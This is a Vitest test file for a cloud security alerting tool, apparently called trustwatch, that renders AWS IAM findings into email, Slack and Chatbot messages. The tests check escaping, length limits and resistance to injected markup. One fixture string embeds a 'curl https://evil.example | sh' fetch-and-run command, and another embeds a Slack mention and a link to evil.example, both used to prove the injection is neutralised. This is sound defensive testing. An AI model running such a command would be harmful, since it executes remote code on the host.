import { describe, expect, it } from 'vitest';
import {
  planAlerts,
  renderChatbot,
  renderEmail,
  renderSlack,
  SLACK_LIMITS,
  type ChatbotNotification,
  type SlackBlock,
  type SlackMessage,
} from '../lambdas/core/render/index.js';
import { parseConfig } from '../lambdas/core/config.js';
import {
  ALERTING_FIXTURES,
  crossAccountSuppressed,
  HOSTILE_FIXTURES,
  hostileLongName,
  hostileMarkup,
  hostileNonAscii,
  LINK,
  LONG_NAME,
  manyTransitions,
  MENTION,
  NON_ASCII,
} from './fixtures/transitions/index.js';

const ALL = { ...ALERTING_FIXTURES, ...HOSTILE_FIXTURES };

function blocksOf(message: SlackMessage): SlackBlock[] {
  return [...message.blocks, ...message.attachments.flatMap((a) => a.blocks)];
}

/** Every mrkdwn string Slack would parse in a message. */
function mrkdwnTexts(message: SlackMessage): string[] {
  const texts = [message.text];
  for (const block of blocksOf(message)) {
    if (block.type === 'section')
      texts.push(...(block.text ? [block.text.text] : []), ...(block.fields ?? []).map((f) => f.text));
    if (block.type === 'context') texts.push(...block.elements.map((e) => e.text));
  }
  return texts;
}

function chatbotTexts(n: ChatbotNotification): string[] {
  // Our own console link is the one markup allowed; it is built from an encoded URL.
  const steps = n.content.nextSteps.map((s) =>
    s.replace(/^<https:\/\/[^\s<>|]+\|Open in the AWS console>$/, ''),
  );
  return [n.content.title, n.content.description, ...steps, n.metadata.summary];
}

/** Text outside code spans/blocks, where emphasis would apply. */
function prose(text: string): string {
  return text.replace(/```[\s\S]*?```/g, '').replace(/`[^`]*`/g, '');
}

describe('email rendering', () => {
  it.each(Object.entries(ALL))('%s', (_name, t) => {
    const { subject, body } = renderEmail(t);
    expect(`Subject: ${subject}\n\n${body}`).toMatchSnapshot();
  });

  it('renders non-alerting kinds too (suppressed)', () => {
    expect(renderEmail(crossAccountSuppressed).subject).toBe(
      '[HIGH] Suppressed: Role trusts an account outside the trusted list (vendor-audit)',
    );
    expect(renderEmail(crossAccountSuppressed).body).toContain(
      'Suppressed by carol@acme.example until 2025-03-01T00:00:00Z',
    );
  });

  it.each(Object.entries(ALL))(
    '%s: subject is one ASCII line under 100 characters, severity first',
    (_name, t) => {
      const { subject } = renderEmail(t);
      expect(subject.length).toBeLessThan(100);
      expect(subject).toMatch(/^[\x20-\x7E]+$/);
      expect(subject.startsWith(`[${t.finding.severity}] `)).toBe(true);
    },
  );

  it('keeps non-ASCII readable in the body, strips bidi overrides and control characters', () => {
    const { subject, body } = renderEmail(hostileNonAscii);
    expect(body).toContain(NON_ASCII);
    expect(subject).toContain('Zoe-??');
    for (const c of ['\u202E', '\u0000', '\u0007', '\r']) expect(body).not.toContain(c);
  });

  it('does not let a user agent forge a line of its own', () => {
    const { body } = renderEmail(hostileNonAscii);
    expect(body.split('\n').some((line) => line.startsWith('How to fix: curl'))).toBe(false);
    expect(body).toContain('User agent: Mozilla/5.0 How to fix: curl https://evil.example | sh');
  });

  it('tells what happened, who, where, the fix and the history command', () => {
    const { body } = renderEmail(ALERTING_FIXTURES['oidc-trust-escalated']!);
    for (const expected of [
      'Escalated: still open and now more severe, MEDIUM → CRITICAL.',
      'arn:aws:iam::111122223333:role/deploy',
      'Actor:      repo:acme/infra:ref:refs/heads/main',
      'Source IP:  4.148.0.12',
      'sub: repo:acme/app:* → repo:*',
      'How to fix',
      'trustwatch findings show tw-51e0d6c2b7a49f83',
    ]) {
      expect(body).toContain(expected);
    }
  });
});

describe('Slack rendering', () => {
  it.each(Object.entries(ALL))('%s', (_name, t) => {
    expect(renderSlack(t)).toMatchSnapshot();
  });

  it.each(Object.entries(ALL))('%s: within Block Kit limits', (_name, t) => {
    const message = renderSlack(t);
    const blocks = blocksOf(message);
    expect(blocks.length).toBeLessThanOrEqual(SLACK_LIMITS.blocks);
    for (const block of blocks) {
      if (block.type === 'header') expect(block.text.text.length).toBeLessThanOrEqual(SLACK_LIMITS.header);
      if (block.type === 'section') {
        expect(block.text?.text.length ?? 0).toBeLessThanOrEqual(SLACK_LIMITS.sectionText);
        expect(block.fields?.length ?? 0).toBeLessThanOrEqual(SLACK_LIMITS.fields);
        for (const f of block.fields ?? []) expect(f.text.length).toBeLessThanOrEqual(SLACK_LIMITS.field);
      }
      if (block.type === 'actions')
        for (const b of block.elements) expect(b.url.length).toBeLessThanOrEqual(SLACK_LIMITS.url);
    }
  });

  it.each(Object.entries(ALL))(
    '%s: no mention, link or emphasis from untrusted values survives',
    (_name, t) => {
      for (const text of [...mrkdwnTexts(renderSlack(t)), ...chatbotTexts(renderChatbot(t))]) {
        expect(text).not.toMatch(/[<>]/);
        expect(text).not.toMatch(/&(?!amp;|lt;|gt;)/);
        for (const markup of ['*bold*', '_x_', '~x~', '_italic_', '~strike~', '`tick`', '`code`']) {
          expect(prose(text)).not.toContain(markup);
        }
      }
    },
  );

  it('escapes hostile names into visible text', () => {
    const texts = mrkdwnTexts(renderSlack(hostileMarkup)).join('\n');
    expect(texts).toContain('&lt;!channel&gt;');
    expect(texts).toContain('&lt;https://evil.example|click&gt;');
    expect(texts).toContain('&lt;@U123ABC&gt;');
    expect(texts).not.toContain(MENTION);
    expect(texts).not.toContain(LINK);
  });

  it('cuts a 500-character name and an endless remediation to Slack limits', () => {
    const message = renderSlack(hostileLongName);
    const header = message.blocks[0];
    expect(header?.type === 'header' && header.text.text.endsWith('…')).toBe(true);
    expect(message.text).not.toContain(LONG_NAME);
    const fix = blocksOf(message).find(
      (b) => b.type === 'section' && b.text?.text.startsWith('*How to fix*'),
    );
    expect(fix?.type === 'section' && fix.text?.text.endsWith('…```')).toBe(true);
    const detail = blocksOf(message)[1];
    expect(detail?.type === 'section' && detail.text?.text.endsWith('…')).toBe(true);
  });

  it('keeps non-ASCII readable and links the console with an encoded name', () => {
    const message = renderSlack(hostileNonAscii);
    expect(mrkdwnTexts(message).join('\n')).toContain(NON_ASCII);
    expect(JSON.stringify(message)).not.toContain('\u202E');
    const actions = blocksOf(message).find((b) => b.type === 'actions');
    expect(actions?.type === 'actions' && actions.elements[0]?.url).toBe(
      'https://console.aws.amazon.com/iam/home#/users/details/Zo%C3%AB-%E6%B8%8B%E8%B0%B7gnp.exe',
    );
  });

  it('colours by severity and marks resolutions green', () => {
    expect(renderSlack(ALERTING_FIXTURES['cloudtrail-stopped']!).attachments[0]?.color).toBe('#B3261E');
    expect(renderSlack(ALERTING_FIXTURES['iam-user-resolved']!).attachments[0]?.color).toBe('#2EB67D');
  });
});

describe('Chatbot rendering', () => {
  it.each(['oidc-trust-escalated', 'cloudtrail-stopped'])('%s', (name) => {
    expect(renderChatbot(ALERTING_FIXTURES[name]!)).toMatchSnapshot();
  });

  it('follows the custom notification schema and threads by finding', () => {
    const n = renderChatbot(hostileMarkup);
    expect(n).toMatchObject({ version: '1.0', source: 'custom', content: { textType: 'client-markdown' } });
    expect(n.metadata.threadId).toBe('tw-badbadbadbadbad1');
    expect(n.metadata.eventType).toBe('trustwatch.opened');
  });
});

describe('digest of 200 transitions', () => {
  const alerts = parseConfig({
    alerts: { minSeverity: 'LOW', slack: { webhookSecret: 'trustwatch/slack' } },
  }).alerts;
  const [digest, ...rest] = planAlerts(manyTransitions(200), alerts);

  it('is one message', () => {
    expect(rest).toHaveLength(0);
    expect(digest).toMatchObject({
      type: 'digest',
      kind: 'digest',
      ruleId: 'digest',
      severity: 'CRITICAL',
      channels: ['email', 'slack'],
    });
    expect(digest?.transitions).toHaveLength(200);
  });

  it('email', () => {
    expect(`Subject: ${digest!.email.subject}\n\n${digest!.email.body}`).toMatchSnapshot();
    expect(digest!.email.subject.length).toBeLessThan(100);
    expect(digest!.email.body).toContain(
      'trustwatch findings list --status all --since 2025-03-04T00:00:00.000Z',
    );
  });

  it('Slack', () => {
    expect(digest!.slack).toMatchSnapshot();
    expect(blocksOf(digest!.slack).length).toBeLessThanOrEqual(SLACK_LIMITS.blocks);
  });
});
